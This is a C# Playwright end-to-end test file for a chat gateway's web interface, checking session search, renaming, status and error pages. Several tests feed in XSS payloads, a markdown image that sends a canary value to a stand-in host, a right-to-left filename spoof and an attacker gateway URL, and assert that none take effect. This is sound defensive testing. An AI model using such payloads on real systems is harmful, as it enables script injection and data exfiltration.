// SPDX-License-Identifier: Apache-2.0

using Microsoft.Playwright;
using Sigil.EndToEnd.Tests.Support;
using Sigil.Testing;
using Xunit.Abstractions;
using static Microsoft.Playwright.Assertions;

namespace Sigil.EndToEnd.Tests;

public sealed class SessionsTests(BrowserFixture browser, GatewayFixture gateway, ITestOutputHelper output) : EndToEndTest(browser, gateway, output)
{
    [BrowserFact]
    public async Task Search_FindsTitles_AndTheChatOpens()
    {
        await StartChatAsync("needle in a haystack");
        await StartChatAsync("something else");
        await Chat.OpenAsync("/sessions");

        await Page.GetByRole(AriaRole.Searchbox, new() { Name = "Search all chats by title" }).FillAsync("NEEDLE");
        var rows = Page.Locator("main [data-session]");
        await Expect(rows).ToHaveCountAsync(1);
        await rows.GetByRole(AriaRole.Link).ClickAsync();

        await Expect(Chat.Turns.First).ToContainTextAsync("needle in a haystack");
    }

    [BrowserFact]
    [Trait("attack", "XS-3")]
    [Trait("attack", "PI-O3")]
    public async Task HostileTitle_IsText_Everywhere()
    {
        const string hostile = "<img src=x onerror=\"window.owned=1\">";
        await StartChatAsync("harmless for now \u202Etxt.exe");
        await Expect(Chat.Turns.First).ToContainTextAsync("⟨U+202E⟩txt.exe");
        await Chat.OpenAsync("/sessions");
        await Page.Locator("main [data-session]").Filter(new() { HasText = "harmless for now" }).GetByRole(AriaRole.Button, new() { Name = "Rename" }).ClickAsync();
        await Page.GetByLabel("New title").FillAsync(hostile);
        await Page.GetByLabel("New title").PressAsync("Enter");

        var row = Page.Locator("main [data-session]").Filter(new() { HasText = "<img src=x" });
        await row.GetByRole(AriaRole.Link).ClickAsync();
        await Expect(Page.GetByRole(AriaRole.Heading, new() { Level = 1 })).ToContainTextAsync("<img src=x");
        await Page.ReloadAsync();
        await Chat.ReadyAsync();
        await Expect(Page.GetByRole(AriaRole.Heading, new() { Level = 1 })).ToContainTextAsync("<img src=x");

        Assert.False(await Page.EvaluateAsync<bool>("'owned' in window"));
    }

    [BrowserFact]
    [Trait("attack", "XS-1")]
    [Trait("attack", "SX-3")]
    public async Task HostileAnswer_RunsNothing_AndLoadsNothing()
    {
        Answer(StubAnswer.Text(
            "<script>window.owned=1</script><img src=x onerror=\"window.owned=1\">\n\n![x](https://evil.example/?d=CANARY)\n\n[go](javascript:window.owned=1)\n\n",
            "<svg onload=\"window.owned=1\"></svg>\n\n[fine](https://example.org/)"));
        await Chat.NewAsync();
        await Chat.SendAsync("Attack me");
        await Chat.EndedAsync();

        await Expect(Chat.LastAnswer.Locator(".prose a")).ToHaveCountAsync(1);
        await Expect(Chat.LastAnswer.Locator(".prose img, .prose svg, .prose script")).ToHaveCountAsync(0);
        Assert.False(await Page.EvaluateAsync<bool>("'owned' in window"));
    }

    [BrowserFact]
    [Trait("attack", "WB-4")]
    public async Task AddressOfAnotherGateway_InTheAddress_IsIgnored()
    {
        await Page.GotoAsync(new Uri(Gateway.Address, "/chat?gatewayUrl=ws://evil.example/&returnUrl=https://evil.example").ToString());
        await Chat.ReadyAsync();

        await Expect(Chat.Message).ToBeEnabledAsync();
        Assert.Equal(Gateway.Address.Authority, new Uri(Page.Url).Authority);
    }

    [BrowserFact]
    public async Task Status_SaysPlainlyHowTheGatewayIs()
    {
        await Chat.OpenAsync("/status");

        await Expect(Page.Locator("main")).ToContainTextAsync("Content scanner: on");
        await Expect(Page.Locator("main")).ToContainTextAsync(Gateway.Address.Authority);
        await Expect(Page.Locator("[data-provider=stub]")).ToBeVisibleAsync();
        await Page.GetByRole(AriaRole.Button, new() { Name = "Check now" }).ClickAsync();

        await Expect(Page.Locator("main")).ToContainTextAsync("Audit log: intact");
    }

    [BrowserFact]
    public async Task UnknownAddress_IsAPageOfOurs()
    {
        ExpectedFault = "404";
        await Page.GotoAsync(new Uri(Gateway.Address, "/nothing/here").ToString());

        await Expect(Page.GetByText("There is no such page")).ToBeVisibleAsync();
    }

    private async Task StartChatAsync(string message)
    {
        Answer(StubAnswer.Text("Yes."));
        await Chat.NewAsync();
        await Chat.SendAsync(message);
        await Chat.EndedAsync();
    }
}
